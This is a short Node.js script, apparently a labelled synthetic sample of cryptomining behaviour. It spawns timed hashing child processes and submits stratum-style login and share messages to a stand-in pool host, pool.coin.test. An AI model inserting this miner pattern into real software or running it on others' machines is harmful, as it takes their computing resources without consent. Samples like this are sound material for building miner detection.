// class: mining; possible: low medium; style: child processes of 900 ms, a fresh line for every share
const net = require("net");
const { spawnSync } = require("child_process");

const code = `
const { createHash } = require('crypto');
let n = Number(process.argv[1]), best = ['f'.repeat(64), 0];
const end = Date.now() + 900;
while (Date.now() < end) {
  const h = createHash('sha512').update(createHash('sha512').update('blk' + n).digest()).digest('hex').slice(0, 64);
  if (h < best[0]) best = [h, n];
  n++;
}
console.log(best.join(' '));`;

function share(nonce, hash) {
  return new Promise((done) => {
    const s = net.connect(3334, "pool.coin.test");
    s.setTimeout(4000, () => s.destroy());
    s.on("connect", () => s.write(JSON.stringify({ id: 1, method: "login", params: { login: "47Y6", pass: "x" } }) + "\n"));
    s.once("data", (d) => {
      let job = {};
      try { job = JSON.parse(String(d).split("\n")[0]).result.job; } catch {}
      s.end(JSON.stringify({ id: 2, method: "submit", params: { id: "1", job_id: job.job_id, nonce, result: hash } }) + "\n");
    });
    s.on("close", done);
    s.on("error", done);
  });
}

(async () => {
  const stop = Date.now() + 48000;
  for (let i = 0; Date.now() < stop; i++) {
    const [hash, nonce] = String(spawnSync(process.execPath, ["-e", code, String(i * 1e6)]).stdout).trim().split(" ");
    if (i % 3 === 2) await share(Number(nonce).toString(16), hash);
  }
})();
